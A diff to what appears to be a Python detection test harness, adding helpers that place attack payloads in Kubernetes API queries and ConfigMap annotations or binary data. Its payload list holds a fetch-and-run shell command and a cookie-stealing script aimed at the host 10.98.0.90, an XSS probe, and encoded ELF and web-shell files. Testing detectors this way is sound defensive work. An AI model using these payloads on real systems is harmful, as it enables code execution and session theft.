@@ -48,6 +48,7 @@ class Payload:
 
     kind: str
     value: str
+    encoded: bool = False
 
 
 def payloads() -> list[Payload]:
@@ -59,22 +60,41 @@ def payloads() -> list[Payload]:
         Payload("shell code", "$(curl -s http://10.98.0.90/x.sh | sh)"),
         Payload("script", "<script>document.location='http://10.98.0.90/?c='+document.cookie</script>"),
         Payload("script", "\"><img src=x onerror=alert(document.domain)>"),
-        Payload("malicious file", base64.b64encode(elf()).decode()),
-        Payload("malicious file", base64.b64encode(web_shell()).decode()),
+        Payload("malicious file", base64.b64encode(elf()).decode(), encoded=True),
+        Payload("malicious file", base64.b64encode(web_shell()).decode(), encoded=True),
         Payload("malicious file", web_shell().decode()),
         Payload("malicious file", test_virus().decode()),
     ]
 
 
+def query(payload: Payload) -> str:
+    """A parameter that the call knows, where such a value is never normal."""
+    if payload.kind == "malicious file":
+        return "limit=10&continue=" + quote(payload.value, safe="")
+    return "labelSelector=" + quote("app=" + payload.value, safe="")
+
+
+def body(payload: Payload) -> dict[str, Any]:
+    """A ConfigMap with the payload where no code is kept: an annotation, or for encoded files its binary data.
+
+    Code under `data` is everyday life in a cluster (schemas, scripts, server configuration), so it proves nothing.
+    """
+    config: dict[str, Any] = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "tenant-notes"},
+                              "data": {"lastRun": "done"}}
+    if payload.encoded:
+        config["binaryData"] = {"tool": payload.value}
+    else:
+        config["metadata"]["annotations"] = {"guest/last-run": payload.value}
+    return config
+
+
 def send(client: Kube, payload: Payload, place: str) -> int:
     """One request with the payload in its place; everything else is the pod's everyday request."""
     if place == "query":
-        return client.request("GET", f"{BASE}?labelSelector={quote('app=' + payload.value, safe='')}").status
+        return client.request("GET", f"{BASE}?{query(payload)}").status
     if place == "cookie":
         return client.request("GET", f"{BASE}/tenant-notes", headers={"Cookie": f"session={quote(payload.value, safe='')}"}).status
-    body: dict[str, Any] = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "tenant-notes"},
-                            "data": {"lastRun": payload.value}}
-    return client.request("PUT", f"{BASE}/tenant-notes", body).status
+    return client.request("PUT", f"{BASE}/tenant-notes", body(payload)).status
 
 
 def cases() -> Iterator[tuple[Payload, str]]:
